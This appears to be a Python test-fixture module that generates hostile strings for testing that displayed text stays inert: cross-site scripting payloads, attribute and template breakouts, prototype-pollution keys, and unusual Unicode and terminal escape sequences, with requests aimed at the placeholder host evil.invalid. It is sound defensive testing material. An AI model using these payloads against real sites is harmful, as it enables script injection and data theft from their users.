"""Texts that try to become markup, script, a request or another text, for every place where a text is shown.

A payload that succeeds sets `document.pwned`, and whatever asks for something asks `evil.invalid`.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

RUN = "document.pwned=1"
ASK = "http://evil.invalid/x"

TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={ASK}></script>",
    f"</script><script>{RUN}</script>",
    f"</script ><svg onload={RUN}>",
    f"<!--<script>{RUN}</script>-->",
    "<!--<script>",
    "<!--<script><script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</table><img src=x onerror={RUN}>",
    f"</option></select><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<img src={ASK}>",
    f"<image href=x onerror={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data={ASK}>",
    f"<embed src={ASK}>",
    f"<video><source onerror={RUN} src={ASK}></video>",
    f"<audio src={ASK} onerror={RUN}>",
    f"<link rel=stylesheet href={ASK}>",
    f"<style>@import url({ASK});*{{background:url({ASK})}}</style>",
    f"<meta http-equiv=refresh content='0;url={ASK}'>",
    "<base href=http://evil.invalid/>",
    f"<form action={ASK}><input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<div style='background:url({ASK})'>x</div>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<b onmouseover={RUN}>x</b>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<table><tr><td>",
    "</div></div></section></main>",
]
BREAKS = [
    f"\" onmouseover=\"{RUN}\" x=\"",
    f"' onmouseover='{RUN}' x='",
    f"\" autofocus onfocus=\"{RUN}",
    f"x\" style=\"background:url({ASK})",
    f"javascript:{RUN}",
    f"url({ASK})",
    f"expression({RUN})",
    "\";}*{background:url(http://evil.invalid/)}",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"`${{{RUN}}}`",
    f"';{RUN};//",
    f"\");{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "\"}]}</script>",
    "\\",
    "\\\"",
    "__proto__",
    "constructor",
    "IPY_MODEL_0",
    "[\"__proto__\"]",
]  # fmt: skip
ODD = [
    "\u202eevil\u202c",
    "\u2066\u2067abc\u2069",
    "\u200f\u200e\u061c",
    "\u2028",
    "\u2029",
    "a\u2028b\u2029c",
    "\ufeff",
    "\u00ad\u200b\u2060",
    "\x00",
    "\x07\x08\x0b\x0c",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "\x7f\x80\x9f",
    "\r\n\t ",
    "\ud800",
    "\udc00x",
    "a\ud83d",
    "\udfff\ud800",
    "👨‍👩‍👧‍👦",
    "👩🏽‍🚀🏳️‍🌈🇩🇪",
    "e\u0301\u0327" + "\u0301" * 40,
    "Z̷̢͎a̵̛͜l̶̡͠g̸̨̛o̴̢͝",
    "مرحبا بالعالم",
    "שלום עולם",
    "مرحبا <b>abc</b> שלום",
    "中文 テキスト 한국어",
    "\uffff\ufffe\U0010ffff",
    "𝒜𝓁𝓅𝒽𝒶",
    "ﷺ﷽",
    " ",
    "   ",
    "\n",
    "",
]


def texts(count: int = 500, seed: int = 0) -> list[str]:
    """So many hostile texts: each of the known ones, then mixtures of them, a few of 100 kB."""
    drawn = random.Random(seed)
    known = [*TAGS, *BREAKS, *ODD]
    drawn.shuffle(known)
    found = known[:count]
    mixed = _mixed(drawn, known)
    while len(found) < count:
        found.append(next(mixed))
    for nth in range(7, count, 100):
        one = drawn.choice(TAGS) + "x"
        found[nth] = one * (100_000 // len(one) + 1)
    return found


def _mixed(drawn: random.Random, known: list[str]) -> Iterator[str]:
    while True:
        one, other = drawn.choice(known), drawn.choice(known)
        yield drawn.choice(
            [
                one + other,
                f"{one}{drawn.randrange(999)}",
                other[: len(other) // 2] + one,
                one.upper(),
                f" {one}\n{other}",
                one[::-1] + other,
            ]
        )
